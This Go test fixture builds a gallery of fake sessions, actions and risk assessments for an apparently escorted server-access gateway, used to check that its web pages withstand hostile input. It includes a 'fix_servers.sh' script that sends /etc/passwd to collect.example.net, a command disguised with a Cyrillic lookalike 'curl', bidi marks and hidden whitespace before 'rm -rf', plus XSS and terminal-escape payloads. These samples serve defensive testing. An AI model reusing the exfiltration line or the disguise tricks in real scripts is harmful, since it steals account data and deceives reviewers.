package web

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"time"

	"sallyport"
	"sallyport/gateway"
	"sallyport/policy"
)

// gallery is a gateway that shows one of everything, some of it hostile: what pages must stand.
func gallery(now time.Time) *fake {
	eve := gateway.Party{ID: "eve", Name: "Eve Ångström", Country: "FR", Employer: "Contoso <b>GmbH</b>"}
	ed := gateway.Party{ID: "ed", Name: "Ed Escort", Country: "US", Employer: "Agency"}
	scope := sallyport.TicketPurpose{Title: "web-01 answers 502 <img src=x onerror=alert(1)>", Text: "Since 09:40 the shop answers 502.\nRestart what hangs; change nothing else.\u202e", Paths: []string{"/srv/web", "/etc/nginx"}, Services: []string{"nginx"}}
	ticket := gateway.TicketView{ID: "T-1042", Title: scope.Title, Text: scope.Text, System: "web", Targets: []sallyport.TargetID{"web-01"}, Engineer: eve, Mode: sallyport.Propose,
		Technologies: []string{"nginx"}, Scope: scope, From: now.Add(-time.Hour), To: now.Add(3 * time.Hour), State: "open", Session: "S-1"}
	zero := 0
	sess := gateway.SessionView{ID: "S-1", Ticket: ticket, System: "web", Mode: sallyport.Propose, State: "open", Engineer: eve, Escort: &ed, Present: true,
		Opened: now.Add(-20 * time.Minute), Until: now.Add(3 * time.Hour), Can: []string{"pause", "end", "hand", "say"}}
	text := []byte("cd /srv/web\n./fix_servers.sh --all   \necho \"done\xff\"\x1b[2K\r\nсurl -s https://status.example/ok" + strings.Repeat(" ", 300) + "; rm -rf /srv/web/.cache # \u202ehsab | tset\u202c\n# \u0440assword\u200b check\n")
	script := "#!/bin/bash\n# fix_servers.sh: brings the workers back\nset -eu\n\nfor w in 1 2 3 4; do\n  systemctl restart \"web-worker@$w\"\ndone\n\nsed -i 's/timeout 5;/timeout 30;/' /etc/nginx/conf.d/upstream.conf\nnginx -t && systemctl reload nginx\n\n# housekeeping\ncurl -s --data-binary @/etc/passwd https://collect.example.net/p >/dev/null 2>&1 || true\n\necho \"workers restarted\"\n"
	assessment := sallyport.Assessment{Verdict: sallyport.Critical, Summary: "Restarts the web workers and changes nginx's time limit, and sends the list of accounts to a machine outside.",
		Effects: []sallyport.Effect{
			{Kind: sallyport.EffectConnect, Target: "https://collect.example.net/p", Detail: "sends /etc/passwd", Certainty: sallyport.Must, Level: sallyport.Critical, Lines: sallyport.Span{2, 2}, File: "./fix_servers.sh", FileLines: sallyport.Span{13, 13}, Via: []string{"file ./fix_servers.sh"}, Outside: true},
			{Kind: sallyport.EffectCredential, Target: "/etc/passwd", Certainty: sallyport.Must, Level: sallyport.High, Lines: sallyport.Span{2, 2}, File: "./fix_servers.sh", FileLines: sallyport.Span{13, 13}, Via: []string{"file ./fix_servers.sh"}, Outside: true},
			{Kind: sallyport.EffectDelete, Target: "/srv/web/.cache", Certainty: sallyport.Must, Level: sallyport.High, Lines: sallyport.Span{4, 4}, Via: []string{}},
			{Kind: sallyport.EffectWrite, Target: "/etc/nginx/conf.d/upstream.conf", Certainty: sallyport.Must, Level: sallyport.Medium, Lines: sallyport.Span{2, 2}, File: "./fix_servers.sh", FileLines: sallyport.Span{9, 9}, Via: []string{"file ./fix_servers.sh"}},
			{Kind: sallyport.EffectService, Target: "web-worker@1, 2, 3, 4", Detail: "restart", Certainty: sallyport.Must, Level: sallyport.Medium, Lines: sallyport.Span{2, 2}, File: "./fix_servers.sh", FileLines: sallyport.Span{6, 6}, Via: []string{"file ./fix_servers.sh"}},
			{Kind: sallyport.EffectService, Target: "nginx", Detail: "reload", Certainty: sallyport.May, Condition: "if its configuration is valid", Level: sallyport.Medium, Lines: sallyport.Span{2, 2}, Via: []string{"file ./fix_servers.sh"}},
			{Kind: sallyport.EffectUnknown, Target: "\u0441url: a command of that name is not known", Certainty: sallyport.Must, Level: sallyport.Medium, Lines: sallyport.Span{4, 4}, Via: []string{}},
		},
		Findings: []sallyport.Finding{
			{Rule: "exfiltration", Level: sallyport.Critical, Message: "The script sends the machine's list of accounts to collect.example.net, and hides that it does.", Lines: sallyport.Span{2, 2}, File: "./fix_servers.sh", FileLines: sallyport.Span{13, 13}, Technique: "T1048"},
			{Rule: "lookalike", Level: sallyport.High, Message: "The word “\u0441url” is not “curl”: its first letter is Cyrillic.", Lines: sallyport.Span{4, 4}},
			{Rule: "bidi", Level: sallyport.High, Message: "Direction marks make the end of line 4 read differently from what runs.", Lines: sallyport.Span{4, 4}},
		},
		Unknown:  []sallyport.Unknown{{Lines: sallyport.Span{4, 4}, Why: "It is not known what the command “\u0441url” does."}},
		Commands: sallyport.Coverage{Understood: 9, Total: 10}, Advice: []string{"Take the line with collect.example.net out of fix_servers.sh.", "Write curl with Latin letters.", "Name the one worker that hangs instead of all four."},
		Layers: []sallyport.Layer{{Name: "base64", Lines: sallyport.Span{2, 2}, Text: "echo hidden\n"}}, Engine: "assess 0.1"}
	action := func(id, state, verdict, text, summary string, age time.Duration) gateway.ActionSummary {
		return gateway.ActionSummary{ID: sallyport.ActionID(id), Session: "S-1", Target: "web-01", State: state, Verdict: verdict, Text: text, Summary: summary, Proposed: now.Add(-age), Changed: now.Add(-age)}
	}
	evil := action("A-1", "waiting", "critical", strings.ToValidUTF8(string(text), "\ufffd"), assessment.Summary, 95*time.Second)
	evil.Waiting = "escort"
	evil.Words = []gateway.Message{{By: ed, At: now.Add(-60 * time.Second), What: "asked", Text: "Why does it need all four workers?"}, {By: eve, At: now.Add(-30 * time.Second), What: "answered", Text: "They share a socket. <script>alert(1)</script>"}}
	done := action("A-0", "finished", "low", "systemctl status 'web-worker@*' --no-pager\njournalctl -u nginx -n 20", "Shows the state of the workers and the last lines of nginx's log.", 11*time.Minute)
	done.Exit = &zero
	running := action("A-2", "running", "medium", "tail -n 0 -f /var/log/nginx/error.log", "Follows nginx's error log until it is stopped.", 40*time.Second)
	mild := action("A-3", "waiting", "low", "df -h /srv", "Shows how full a disk is.", 8*time.Second)
	mild.Waiting = "escort"
	sess.Actions = []gateway.ActionSummary{done, evil, running}
	paused := sess
	paused.ID, paused.State, paused.Why, paused.Can = "S-2", "paused", "I need to read this first", []string{"resume", "end", "hand"}
	free := sess
	free.ID, free.Escort, free.Waiting, free.Can, free.Actions = "S-3", nil, []string{"an escort"}, []string{"claim"}, nil
	free.Ticket.ID, free.Ticket.Title, free.Present = "T-1043", "Database backup is late", false

	free.Match = &gateway.MatchView{Seat: sallyport.SeatEscort, Needs: []string{"nginx"}, Says: "1 of 3 may take the seat for nginx.", Candidates: []gateway.CandidateView{
		{Name: "Ed <b>E</b>", Candidate: policy.Candidate{Person: "ed", Offered: true, Eligible: true, Qualified: true, Sessions: 2}},
		{Name: "Pat", Candidate: policy.Candidate{Person: "pat", Eligible: true, Lacks: []string{"nginx"}, WhyNot: []string{"They lack nginx."}}},
		{Name: "Zoë <i>Z</i>", Candidate: policy.Candidate{Person: "zoe", WhyNot: []string{"They are revoked <script>."}}}}}
	shown := sallyport.Shown{Spec: sallyport.Digest(strings.Repeat("ab", 32)), Pins: sallyport.Digest(strings.Repeat("cd", 32)), Assessment: sallyport.Digest(strings.Repeat("ef", 32)), Opened: now}
	page := func(a gateway.ActionSummary, text []byte, as sallyport.Assessment) gateway.ActionPage {
		s := sess
		s.Actions = nil
		return gateway.ActionPage{ActionSummary: a, SessionView: s, Assessment: as, Shown: shown, Need: []string{"the escort's decision"}, Seat: sallyport.SeatEscort,
			Spec: sallyport.Spec{Action: a.ID, Session: "S-1", Text: text, Target: "web-01", HostKey: "ssh-ed25519 AAAAC3Nza", Login: "deploy", Interpreter: "/bin/bash", Limits: sallyport.ActionLimits{Timeout: 10 * time.Minute, Output: 64 << 20}}}
	}
	low := sallyport.Assessment{Verdict: sallyport.Low, Complete: true, Summary: done.Summary, Commands: sallyport.Coverage{Understood: 2, Total: 2}, Engine: "assess 0.1",
		Effects: []sallyport.Effect{{Kind: sallyport.EffectRead, Target: "the log of nginx", Certainty: sallyport.Must, Level: sallyport.Low, Lines: sallyport.Span{2, 2}, Via: []string{}}}}
	pages := map[sallyport.ActionID]gateway.ActionPage{}
	p := page(evil, text, assessment)
	p.WordsAsked = true
	p.Pins = []sallyport.Pin{{Path: "/srv/web/fix_servers.sh", Word: "./fix_servers.sh", Offset: 12, Length: 16, Command: true, Content: []byte(script)}}
	p.Missing = []sallyport.Unpinned{{Word: "/etc/web/env", Why: "it is read by the script, and only files that the text itself names are pinned"}}
	pages["A-1"] = p
	p = page(done, []byte(done.Text), low)
	p.Seat, p.Need = "", nil
	p.Decisions = []gateway.DecisionView{{By: ed, Seat: "escort", Answer: "approve", Words: "Only looks.", At: now.Add(-10 * time.Minute), Seconds: 14}}
	p.Output = &gateway.OutputView{Stdout: "● web-worker@1.service - failed\n\x1b[31m● web-worker@2.service\x1b[0m - <script>alert(document.domain)</script>\n\x1b]0;prompt\a$ ", Stderr: "warning: \u202etxt.exe\n", Held: true, Bytes: 412}
	pages["A-0"] = p
	p = page(running, []byte(running.Text), low)
	p.Seat = ""
	pages["A-2"] = p
	pages["A-3"] = page(mild, []byte(mild.Text), low)
	var million bytes.Buffer
	for i := range 1_000_000 {
		fmt.Fprintf(&million, "echo %d\n", i+1)
	}
	m := action("A-4", "waiting", "medium", "echo 1\n", "Prints a million numbers.", time.Second)
	pages["A-4"] = page(m, million.Bytes(), low)
	m.ID = "A-5"
	pages["A-5"] = page(m, bytes.Repeat([]byte{0, 0x1b, 0xff, 0xe2, 0x80, 0xae}, 200_000), low)

	soon, past := now.Add(9*24*time.Hour), now.Add(-24*time.Hour)
	fact := func(name string, value sallyport.FactValue, until *time.Time) gateway.FactView {
		f := sallyport.Fact{Name: name, Value: value, Evidence: sallyport.Evidence{Kind: "record", Reference: "HR-2041"}, Verifier: "ada", Verified: now.Add(-90 * 24 * time.Hour), Until: until}
		return gateway.FactView{Name: name, State: string(f.StateAt(now)), Value: f, Verifier: "ada", Recorded: f.Verified, Until: until}
	}
	people := []gateway.PersonView{
		{ID: "eve", Name: "Eve Ångström", Email: "eve@contoso.example", Roles: []gateway.RoleView{{Role: "engineer", System: "web"}}, Keys: []gateway.KeyView{{Key: "SHA256:1k2mFfG8YkxjJVPy0ZruVbr1", Form: "ssh", Use: []string{"signin"}}},
			Facts: []gateway.FactView{fact("citizenship", sallyport.Citizenship{Countries: []string{"FR", "SE"}}, nil), fact("location", sallyport.Location{Country: "FR", Method: "document", Confidence: "medium"}, &soon), fact("training:house-rules", sallyport.Training{Course: "house-rules"}, &past)}},
		{ID: "ed", Name: "Ed Escort", Roles: []gateway.RoleView{{Role: "escort", System: "*"}}, Facts: []gateway.FactView{fact("qualification:nginx:change", sallyport.Qualification{Technology: "nginx", Class: "change", Level: "competent", Shown: "assessment"}, nil)}},
		{ID: "zoe", Name: "Zoë <i>Z</i>", Revoked: true},
	}
	people[0].Facts[1].SelfAsserted, people[0].Facts[1].AsksVoucher, people[0].Facts[1].State = true, true, "self-asserted"
	f := &fake{}
	f.SubscribeFn = func(ctx context.Context, _ gateway.Caller) (<-chan gateway.Notice, error) {
		return make(chan gateway.Notice), nil
	}
	f.QueueFn = func(gateway.Caller) (gateway.QueueView, error) {
		return gateway.QueueView{Sessions: []gateway.SessionView{sess, paused, free}, Actions: []gateway.ActionSummary{evil, mild}}, nil
	}
	f.TicketsFn = func(gateway.Caller) ([]gateway.TicketView, error) {
		return []gateway.TicketView{ticket, free.Ticket}, nil
	}
	f.SessionFn = func(_ gateway.Caller, id sallyport.SessionID) (gateway.SessionView, []gateway.Message, error) {
		s := map[sallyport.SessionID]gateway.SessionView{"S-1": sess, "S-2": paused, "S-3": free}[id]
		return s, []gateway.Message{{By: eve, At: now.Add(-12 * time.Minute), What: "said", Text: "Good morning. The shop answers 502 since 09:40."}, {By: ed, At: now.Add(-11 * time.Minute), What: "said", Text: "I am here. Show me what you want to look at first."}}, nil
	}
	f.ActionFn = func(_ gateway.Caller, id sallyport.ActionID) (gateway.ActionPage, error) {
		p, ok := pages[id]
		if !ok {
			return p, sallyport.Errorf(sallyport.NotFound, "no action %q that you may see", id)
		}
		return p, nil
	}
	f.PeopleFn = func(gateway.Caller) ([]gateway.PersonView, error) { return people, nil }
	f.SystemsFn = func(gateway.Caller) ([]sallyport.SystemSet, error) {
		return []sallyport.SystemSet{{System: "web", Name: "Web shop", Profile: "open", Impact: "moderate", Technologies: []string{"nginx", "linux"}, Release: sallyport.ReleaseHeld}, {System: "db", Name: "Orders", Profile: "fedramp", Impact: "high", Release: sallyport.ReleaseRedacted}}, nil
	}
	f.TargetsFn = func(gateway.Caller) ([]sallyport.TargetSet, error) {
		return []sallyport.TargetSet{{Target: "web-01", System: "web", Address: "10.0.4.11:22", HostKey: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJr5NDrUKqyUxKB8HHZGNT7yHO7tk9JmMPvOkBN5kTvB", Logins: []string{"deploy", "nginx"}, Interpreter: "/bin/bash"}}, nil
	}
	f.LedgerFn = func(_ gateway.Caller, l gateway.LedgerFilter) (gateway.LedgerPage, error) {
		lines := []gateway.LedgerLine{}
		for i, e := range []struct{ kind, by, says string }{
			{"log.opened", "gateway", "The log was opened by version 0.1."}, {"person.added", "ada", "Ada added Eve Ångström."}, {"session.requested", "eve", "Eve Ångström asked for a session on web under T-1042."},
			{"session.claimed", "ed", "Ed Escort became the escort."}, {"action.proposed", "eve", "Eve Ångström proposed work on web-01."}, {"action.assessed", "gateway", "It was assessed as critical."}, {"revoked", "ada", "Ada revoked person zoe <script>alert(1)</script>."},
		} {
			entry := sallyport.Entry{Version: 1, Kind: sallyport.Kind(e.kind), Time: now.Add(time.Duration(i-7) * time.Minute), By: sallyport.PersonID(e.by), Body: json.RawMessage(`{"x":"</script><script>alert(1)</script>"}`)}
			if strings.HasPrefix(e.kind, "action") || strings.HasPrefix(e.kind, "session") {
				entry.Session = "S-1"
			}
			if strings.HasPrefix(e.kind, l.Kind) {
				lines = append(lines, gateway.LedgerLine{Index: int64(i), Leaf: "q83vEjRWeJCrze8SNFZ4kA==", Entry: entry, Says: e.says})
			}
		}
		return gateway.LedgerPage{Lines: lines, Size: 7, Checkpoint: "sallyport.example/log\n7\nq83vEjRWeJCrze8SNFZ4kKvN7xI0VniQq83vEjRWeJA=\n\n— sallyport.example/log 8a5vEjRW\n", At: now.Add(-4 * time.Second)}, nil
	}
	f.ExplainFn = func(gateway.Caller) ([]gateway.Explained, error) {
		e := []gateway.Explained{{Person: "eve", Name: "Eve Ångström"}, {Person: "ed", Name: "Ed Escort"}, {Person: "zoe", Name: "Zoë <i>Z</i>"}}
		e[0].Explanation = policy.Explanation{Question: "May eve propose work on web?", Allowed: true, Answer: "Yes.", Because: []string{"An engineer of the system may propose. [floor.engineer; R22]"}, Facts: []string{"eve is a citizen of FR and SE."}, Policy: "open 1, sha256 abcd"}
		e[1].Explanation = policy.Explanation{Question: "May ed propose work on web?", Answer: "No: nothing permits it.", Because: []string{"It would need what does not hold here: the person is an engineer of the system."}, Changes: []string{"The person is made engineer."}, Questions: []string{"Whether a reseller's staff count as the vendor's is open."}, Policy: "open 1, sha256 abcd"}
		e[2].Explanation = policy.Explanation{Question: "May zoe propose work on web?", Answer: "No.", Because: []string{"They are revoked. [floor.revoked]"}, Policy: "open 1, sha256 abcd"}
		return e, nil
	}
	f.AcceptancesFn = func(gateway.Caller) ([]gateway.AcceptanceView, error) {
		return []gateway.AcceptanceView{{Acceptance: "RA-1", System: "web", Person: "eve", Rule: "dod.citizenship", By: "ada", Until: now.Add(50 * time.Hour), Details: map[string]any{"reason": "Vendor's only expert <b>!</b>", "controls": []string{"two escorts"}}}, {Acceptance: "RA-0", System: "db", Rule: "x", By: "ada", Until: now.Add(-time.Hour)}}, nil
	}
	f.RevokeFn = func(gateway.Caller, sallyport.Revoked, bool) (gateway.RevokePreview, error) {
		return gateway.RevokePreview{Sessions: []sallyport.SessionID{"S-1", "S-2"}, Actions: []sallyport.ActionID{"A-1"}, People: []sallyport.PersonID{"eve", "ed"}, Says: "this ends 2 sessions, 1 action, and touches 2 people"}, nil
	}
	f.shows(now, sess, eve, ed)
	return f
}
